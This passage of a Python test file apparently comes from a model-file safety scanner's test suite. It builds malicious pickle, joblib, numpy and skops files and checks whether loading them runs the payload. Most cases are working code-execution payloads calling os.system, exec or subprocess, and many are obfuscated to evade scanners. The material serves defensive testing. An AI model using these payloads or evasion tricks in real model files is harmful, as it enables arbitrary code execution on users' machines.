            ("shutil.copy",),
            reference="CVE-2025-10155 family (file gadgets)",
        ),
        Case(
            "io_fileio",
            lambda t: whole(call(sglobal("_io", "FileIO"), ustr(str(t.marker)), ustr("w"))),
            ("_io.FileIO",),
            reference="CVE-2025-10156 family (_io.FileIO)",
        ),
        Case(
            "numpy_memmap_creates_file",
            lambda t: whole(
                call(
                    sglobal("numpy", "memmap"),
                    ustr(str(t.marker)),
                    ustr("uint8"),
                    ustr("w+"),
                    integer(0),
                    tuple_of(integer(1)),
                )
            ),
            ("numpy.memmap",),
        ),
        Case(
            "joblib_load_of_side_file",
            _joblib_load_gadget,
            ("joblib.load",),
        ),
        Case(
            "numpy_load_allow_pickle",
            _numpy_load_gadget,
            ("numpy.load",),
        ),
        # ---- memo obfuscation
        Case(
            "memo_binget",
            lambda t: whole(
                sglobal("os", "system")
                + b"q\x07"
                + POP
                + ustr("x")
                + POP
                + b"h\x07"
                + MARK
                + ustr(t.shell)
                + TUPLE
                + REDUCE
            ),
            ("os.system",),
        ),
        Case(
            "memo_long_binget",
            lambda t: whole(
                sglobal("os", "system")
                + b"r"
                + struct.pack("<I", 70000)
                + POP
                + b"j"
                + struct.pack("<I", 70000)
                + MARK
                + ustr(t.shell)
                + TUPLE
                + REDUCE
            ),
            ("os.system",),
        ),
        Case(
            "memo_text_get",
            lambda t: whole(
                text_global("os", "system")
                + b"p5\n"
                + POP
                + b"g5\n"
                + MARK
                + sstr(t.shell)
                + TUPLE
                + REDUCE,
                0,
            ),
            ("os.system",),
        ),
        Case(
            "memo_stack_global_names",
            _memo_stack_global_names,
            ("os.system",),
            reference=f"{PS}/issues/22",
        ),
        # ---- dotted and dunder names
        Case(
            "dotted_getattr_self",
            runs_python("builtins", "getattr.__self__.exec"),
            ("builtins.getattr.__self__.exec",),
        ),
        Case(
            "dotted_os_path_os_system",
            runs_shell("os", "path.os.system"),
            ("os.path.os.system",),
        ),
        Case(
            "dotted_global_opcode_protocol_4",
            lambda t: whole(call(text_global("os", "path.os.system"), ustr(t.shell))),
            ("os.path.os.system",),
        ),
        Case(
            "dotted_sklearn_to_os",
            runs_shell("sklearn", "os.system"),
            ("sklearn.os.system",),
        ),
        Case(
            "dunder_builtins_of_a_module",
            lambda t: whole(
                call(
                    call(sglobal("sklearn.base", "__builtins__.get"), ustr("exec")), ustr(t.python)
                )
            ),
            ("sklearn.base.__builtins__.get",),
            ("indirect-call",),
        ),
        # ---- Python 2 names (mapped below protocol 3)
        Case(
            "py2_builtin_eval",
            lambda t: whole(call(text_global("__builtin__", "eval"), sstr(t.python)), 2),
            ("builtins.eval",),
        ),
        Case(
            "py2_commands_getoutput",
            lambda t: whole(call(text_global("commands", "getoutput"), sstr(t.shell)), 2),
            ("subprocess.getoutput",),
        ),
        Case(
            "py2_copy_reg_reconstructor",
            lambda t: whole(
                call(
                    text_global("copy_reg", "_reconstructor"),
                    text_global("subprocess", "Popen"),
                    text_global("subprocess", "Popen"),
                    MARK + sstr("sh") + sstr("-c") + sstr(t.shell) + b"l",
                ),
                2,
            ),
            ("subprocess.Popen",),
        ),
        Case(
            "py2_inst_builtin_exec",
            lambda t: MARK + sstr(t.python) + b"i__builtin__\nexec\n" + STOP,
            ("builtins.exec",),
            reference=f"{MS}/issues/51",
        ),
        # ---- opcodes that call without REDUCE
        Case(
            "inst_opcode",
            lambda t: MARK + sstr(t.shell) + b"ios\nsystem\n" + STOP,
            ("os.system",),
            reference=f"{PS}/issues/13",
        ),
        Case(
            "obj_opcode",
            lambda t: MARK + text_global("os", "system") + sstr(t.shell) + b"o" + STOP,
            ("os.system",),
        ),
        Case(
            "newobj_partial",
            lambda t: whole(
                sglobal("functools", "partial")
                + tuple_of(sglobal("posix", "system"), ustr(t.shell))
                + NEWOBJ
                + EMPTY_TUPLE
                + REDUCE
            ),
            ("functools.partial", "posix.system"),
            ("indirect-call",),
        ),
        Case(
            "newobj_ex_partial",
            lambda t: whole(
                sglobal("functools", "partial")
                + tuple_of(sglobal("os", "system"), ustr(t.shell))
                + EMPTY_DICT
                + NEWOBJ_EX
                + EMPTY_TUPLE
                + REDUCE
            ),
            ("functools.partial", "os.system"),
            ("indirect-call",),
        ),
        # ---- BUILD, APPEND, SETITEM on what is not a container
        Case(
            "build_partial_setstate",
            lambda t: whole(
                call(sglobal("functools", "partial"), sglobal("builtins", "print"))
                + tuple_of(sglobal("os", "system"), tuple_of(ustr(t.shell)), EMPTY_DICT, NONE)
                + BUILD
                + EMPTY_TUPLE
                + REDUCE
            ),
            ("functools.partial", "os.system"),
            ("indirect-call",),
        ),
        Case(
            "build_on_class_overrides_setstate",
            _build_class_setstate,
            ("argparse.Namespace", "os.system"),
            ("indirect-call",),
        ),
        Case(
            "build_attributes_then_dotted_fetch",
            _build_attributes_then_dotted_fetch,
            ("sklearn.base.clone",),
            ("indirect-call",),
            reference=f"{MS}/issues/85",
        ),
        Case(
            "append_to_sys_path",
            _sys_path_append,
            ("sys.path",),
            ("indirect-call",),
        ),
        Case(
            "setitem_sys_modules_alias",
            _sys_modules_alias,
            ("sys.modules", "posixpath.os"),
            ("indirect-call",),
        ),
        # ---- extension registry and persistent ids
        *(
            Case(
                f"extension_registry_{ext.lower()}",
                partial(extension_call, ext, code),
                (),
                ("extension-registry",),
                setup=_ext_setup(code),
                reference="https://github.com/promptfoo/modelaudit/pull/623",
            )
            for ext, (_, _, code) in EXTENSIONS.items()
        ),
        Case(
            "persistent_id_text",
            lambda t: b"Pos system\n" + MARK + sstr(t.shell) + TUPLE + REDUCE + STOP,
            (),
            ("persistent-id",),
            control="pickle_persistent",
            reference="https://github.com/promptfoo/modelaudit/pull/938",
        ),
        Case(
            "persistent_id_binary",
            lambda t: whole(
                tuple_of(ustr("os"), ustr("system")) + b"Q" + MARK + ustr(t.shell) + TUPLE + REDUCE
            ),
            (),
            ("persistent-id",),
            control="pickle_persistent",
        ),
        # ---- joblib array data
        Case(
            "joblib_payload_after_real_array",
            _payload_after_real_joblib_array,
            ("os.system",),
            control="joblib",
            filename="model.joblib",
        ),
        Case(
            "joblib_wrapper_claims_fewer_bytes",
            _wrapper_claims_fewer_bytes,
            ("os.system",),
            control="joblib",
            filename="model.joblib",
        ),
        Case(
            "joblib_wrapper_dtype_wider_than_it_looks",
            _wrapper_dtype_is_wider,
            ("os.system",),
            control="joblib",
            filename="model.joblib",
        ),
        Case(
            "joblib_alignment_padding_is_pickle",
            _alignment_padding_hides_pickle,
            ("os.system",),
            control="pickle",
            filename="model.joblib",
            bypass="loads",
        ),
        Case(
            "joblib_array_bytes_are_pickle",
            _array_bytes_are_pickle,
            ("os.system",),
            control="pickle",
            filename="model.joblib",
            bypass="loads",
        ),
        Case(
            "joblib_object_array",
            _joblib_dump(lambda t: {"labels": _object_array(t)}),
            ("posix.system",),
            control="joblib",
            filename="model.joblib",
        ),
        Case(
            "joblib_object_array_stops_inside_its_frame",
            _object_array_stops_inside_its_frame,
            (),
            ("bad-frame",),
            control="joblib",
            filename="model.joblib",
        ),
        Case(
            "joblib_wrapper_made_by_calling_it",
            _wrapper_made_by_calling_it,
            (),
            ("malformed",),
            control="joblib",
            filename="model.joblib",
            reference="found by tests/test_safety_fuzz.py",
        ),
        Case(
            "joblib_wrapper_made_by_copyreg_reconstructor",
            _wrapper_made_by_reconstructor,
            (),
            ("malformed",),
            control="joblib",
            filename="model.joblib",
            reference="found by tests/test_safety_fuzz.py",
        ),
        Case(
            "joblib_compat_ndarraywrapper_side_file",
            _ndarraywrapper_side_file,
            ("joblib.numpy_pickle_compat.NDArrayWrapper",),
            control="joblib",
            filename="model.joblib",
        ),
        Case(
            "joblib_legacy_zfile",
            _legacy_zfile,
            ("os.system",),
            ("legacy-joblib",),
            control="joblib",
            filename="model.joblib",
        ),
        # ---- numpy files
        Case(
            "npy_object_array",
            _npy(_object_array),
            ("posix.system",),
            control="numpy",
            filename="model.npy",
        ),
        Case(
            "npy_descr_object_spelled_out",
            _npy_descr_spelled_out,
            ("posix.system",),
            control="numpy",
            filename="model.npy",
        ),
        Case(
            "npy_pickle_holds_a_joblib_wrapper",
            _npy_pickle_with_joblib_wrapper,
            ("os.system",),
            control="numpy",
            filename="model.npy",
        ),
        Case(
            "npz_object_member",
            _npz_member,
            ("posix.system",),
            control="npz",
            filename="model.npz",
        ),
        # ---- compression
        *(
            Case(
                f"joblib_compressed_{method}",
                _joblib_dump(lambda t: ShellOnLoad(t.shell), (method, 3)),
                ("posix.system",),
                control="joblib",
                filename="model.joblib",
            )
            for method in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4")
        ),
        Case(
            "gzip_payload_split_across_members",
            _gzip_second_member,
            ("os.system",),
            control="gzip_pickle",
            filename="model.joblib",
        ),
        Case(
            "gzip_member_appended_after_a_valid_one",
            _gzip_member_after_a_valid_one,
            ("os.system",),
            ("trailing-data",),
            control="gzip_pickle_all",
            filename="model.joblib",
            bypass="loads",
        ),
        Case(
            "zlib_decompression_bomb",
            _decompression_bomb,
            (),
            ("bad-compression",),
            control=None,
            filename="model.joblib",
            bypass="skip",
        ),
        # ---- stream structure
        Case(
            "truncated_after_payload",
            lambda t: proto(4) + os_system(t),
            ("os.system",),
            ("truncated",),
        ),
        Case(
            "truncated_prefix_of_valid_pickle",
            lambda t: pickle.dumps({"weights": [1.0, 2.0], "name": "model"}, protocol=4)[:-8],
            (),
            ("truncated",),
            control=None,
            bypass="fails",
        ),
        Case(
            "trailing_pickle_after_stop",
            _trailing_pickle,
            ("os.system",),
            ("trailing-data",),
            control="pickle_all",
            bypass="loads",
        ),
        Case(
            "frame_longer_than_data",
            _frame_longer_than_data,
            ("os.system",),
            ("bad-frame",),
            control="pickle_python",
        ),
        Case(
            "frame_ends_inside_an_opcode",
            _frame_straddle,
            ("os.system",),
            ("bad-frame",),
            bypass="fails",
        ),
        Case(
            "frame_inside_a_frame",
            _frame_nested,
            ("os.system",),
            ("bad-frame",),
            bypass="fails",
        ),
        Case(
            "unknown_opcode_after_payload",
            lambda t: proto(4) + os_system(t) + b"\xff" + STOP,
            ("os.system",),
            ("unknown-opcode",),
        ),
        Case(
            "unknown_opcode_only",
            lambda t: proto(5) + b"\xfe" + STOP,
            (),
            ("unknown-opcode",),
            control=None,
            bypass="fails",
        ),
        Case(
            "stack_global_bytes_operand",
            lambda t: proto(4) + b"C\x02os" + ustr("system") + STACK_GLOBAL + STOP,
            (),
            ("indirect-global",),
            control=None,
            bypass="fails",
            reference=f"{MS}/issues/338",
        ),
        # ---- streams the scanner once took for "not a pickle" (no protocol header)
        Case(
            "no_header_memo_key_leading_zero",
            lambda t: NONE + b"p01\n" + POP + os_system_text(t) + STOP,
            ("os.system",),
        ),
        Case(
            "no_header_int_in_octal",
            lambda t: b"I010\n" + POP + os_system_text(t) + STOP,
            ("os.system",),
            bypass="fails",
            reference="found by tests/test_safety_fuzz.py",
        ),
        Case(
            "no_header_truncated_global_still_imports",
            _truncated_global_imports,
            (),
            ("truncated",),
            control="joblib",
            reference="found by tests/test_safety_fuzz.py",
        ),
        Case(
            "no_header_setitem_on_list",
            lambda t: (
                MARK + b"I1\n" + b"l" + b"I0\n" + NONE + SETITEM + POP + os_system_text(t) + STOP
            ),
            ("os.system",),
        ),
        Case(
            "no_header_readonly_buffer",
            lambda t: b"C\x01a\x98" + POP + os_system_text(t) + STOP,
            ("os.system",),
        ),
        Case(
            "no_header_frame_straddle",
            lambda t: frame(b"", claimed=3) + sstr("padding") + POP + os_system_text(t) + STOP,
            ("os.system",),
            ("bad-frame",),
            bypass="fails",
        ),
        Case(
            "no_header_text_line_over_1_mib",
            lambda t: sstr("a" * (1 << 20)) + POP + os_system_text(t) + STOP,
            (),
            ("malformed",),
            bypass="fails",
        ),
        # ---- skops
        Case(
            "skops_untrusted_custom_type",
            _skops_untrusted_type,
            ("skops_payload_module.Estimator",),
            control="skops",
            setup="import os, sys; sys.path.insert(0, os.getcwd())",
            filename="model.skops",
        ),
        Case(
            "skops_file_with_an_object_npy_member",
            _skops_with_npy_member,
            ("posix.system",),
            control="npz",
            filename="model.skops",
        ),
    ]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


# ---------------------------------------------------------------- loading them for real

# Run as `python -c CONTROL_RUNNER` with a JSON list of jobs on stdin:
# {"path", "cwd", "loader", "setup", "report", "stdin"}. Each job runs in a forked child
# (so a payload that poisons a class or a module cannot reach the next one), in `cwd`, with
# its output in `cwd`/control.log; its outcome is written to `report` as JSON:
# {"outcome": "loaded"} or {"outcome": "raised", "type", "message"}.
CONTROL_RUNNER = r"""
import importlib, json, os, pickle, signal, sys
from pathlib import Path

jobs = json.load(sys.stdin)
loaders = {job["loader"] for job in jobs}
import numpy  # imported once, before forking
if loaders & {"joblib", "integrity", "integrity_bypass", "pickle", "pickle_python"}:
    import joblib
if loaders & {"pickle", "pickle_python", "integrity_bypass"}:
    import sklearn.base, sklearn.linear_model
if loaders & {"integrity", "integrity_bypass"}:
    from integrity.safety import loader as integrity_loader
    from integrity.safety.scanner import ScanResult


def resolve(pid):
    module, name = pid.split() if isinstance(pid, str) else pid
    return getattr(importlib.import_module(module), name)


class PersistentUnpickler(pickle.Unpickler):
    def persistent_load(self, pid):
        return resolve(pid)


def load(kind, path):
    if kind == "pickle":
        with open(path, "rb") as f:
            return pickle.load(f)
    if kind == "pickle_python":
        with open(path, "rb") as f:
            return pickle._Unpickler(f).load()
    if kind == "pickle_all":
        out = []
        with open(path, "rb") as f:
            while f.peek(1):
                out.append(pickle.load(f))
        return out
    if kind == "gzip_pickle":
        import gzip
        with gzip.open(path, "rb") as f:
            return pickle.load(f)
    if kind == "gzip_pickle_all":
        import gzip
        out = []
        with gzip.open(path, "rb") as f:
            while f.peek(1):
                out.append(pickle.load(f))
        return out
    if kind == "pickle_persistent":
        with open(path, "rb") as f:
            return PersistentUnpickler(f).load()
    if kind == "joblib":
        import joblib
        return joblib.load(path)
    if kind == "numpy":
        return numpy.load(path, allow_pickle=True)
    if kind == "npz":
        with numpy.load(path, allow_pickle=True) as archive:
            return [archive[key] for key in archive.files]
    if kind == "skops":
        import skops.io
        return skops.io.load(path, trusted=skops.io.get_untrusted_types(file=path))
    if kind == "integrity":
        return integrity_loader.load_model(Path(path))
    if kind == "integrity_bypass":
        integrity_loader.scan_fd = lambda fd, display, allowlist=None: ScanResult(display, "pickle")
        return integrity_loader.load_model(Path(path))
    raise ValueError(kind)


for job in jobs:
    pid = os.fork()
    if pid == 0:
        try:
            os.chdir(job["cwd"])
            os.dup2(os.open(job["stdin"], os.O_RDONLY), 0)
            log = os.open("control.log", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
            os.dup2(log, 1)
            os.dup2(log, 2)
            signal.alarm(10)
            exec(job["setup"], {})
            load(job["loader"], job["path"])
            report = {"outcome": "loaded"}
        except BaseException as exc:
            report = {"outcome": "raised", "type": type(exc).__name__, "message": str(exc)[:4000]}
        with open(job["report"], "w") as handle:
            json.dump(report, handle)
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(pid, 0)
"""


@contextmanager
def listening(marker: Path) -> Iterator[int]:
    """A TCP listener on 127.0.0.1 that creates `marker` when anything connects; yields
    its port. A network payload's "marker" is that connection."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:  # the timeout, or the socket closed
                continue
            marker.touch()
            connection.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        stop.set()
        thread.join()
        server.close()


@dataclass(frozen=True)
class Built:
    case: Case
    path: Path
    marker: Path


@contextmanager
def build_corpus(root: Path, cases: list[Case]) -> Iterator[dict[str, Built]]:
    """Each case written in its own folder under `root`, with its own marker (and, for a
    network case, a listener that lives as long as the context)."""
    with ExitStack() as stack:
        built = {}
        for case in cases:
            folder = root / case.name
            folder.mkdir()
            marker = folder / "marker"
            port = stack.enter_context(listening(marker)) if case.network else 0
            path = write_case(case, folder, Target(marker, port))
            built[case.name] = Built(case, path, marker)
        yield built


def assert_nothing_ran(item: Built) -> None:
    assert not item.marker.exists(), f"{item.case.name}: the payload ran"


def run_loads(
    built: dict[str, Built], loader: Callable[[Case], str | None], timeout: float = 120
) -> dict[str, Outcome]:
    """Load each built file with `loader(case)` (skipped where None), each in a forked child
    of one subprocess that imports numpy, joblib and scikit-learn once. Returns each
    outcome by case name ({"outcome": "loaded"} or {"outcome": "raised", "type",
    "message"}; {"outcome": "killed"} if the child died without saying)."""
    stdin = Path(next(iter(built.values())).path.parent.parent) / "stdin.txt"
    stdin.write_text("continue\n" * 20)  # for a debugger a payload starts
    jobs = []
    for name, item in built.items():
        kind = loader(item.case)
        if kind is None:
            continue
        report = item.path.parent / f"outcome-{kind}.json"
        jobs.append(
            {
                "name": name,
                "path": str(item.path),
                "cwd": str(item.path.parent),
                "loader": kind,
                "setup": item.case.setup,
                "report": str(report),
                "stdin": str(stdin),
            }
        )
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    subprocess.run(
        [sys.executable, "-c", CONTROL_RUNNER],
        input=json.dumps(jobs),
        text=True,
        cwd=REPO,
        env=env,
        timeout=timeout,
        check=True,
        capture_output=True,
    )
    outcomes = {}
    for job in jobs:
        report = Path(job["report"])
        outcomes[job["name"]] = (
            json.loads(report.read_text()) if report.exists() else {"outcome": "killed"}
        )
    return outcomes


def wait_for(paths: list[Path], seconds: float) -> None:
    """Give payloads that finish in a background process (Popen) time to do so."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not all(p.exists() for p in paths):
        time.sleep(0.05)


@contextmanager
def load_corpus(
    root: Path, cases: list[Case], loader: Callable[[Case], str | None], wait_seconds: float
) -> Iterator[dict[str, tuple[Outcome, bool]]]:
    """Build `cases` under `root` (build_corpus), load each with `loader(case)` (run_loads),
    give background payloads `wait_seconds` to finish, and yield by case name: (the load's
    outcome, whether the case's marker appeared). Network listeners live as long as the
    context."""
    with build_corpus(root, cases) as built:
        outcomes = run_loads(built, loader)
        wait_for([item.marker for item in built.values()], wait_seconds)
        yield {name: (outcomes[name], item.marker.exists()) for name, item in built.items()}
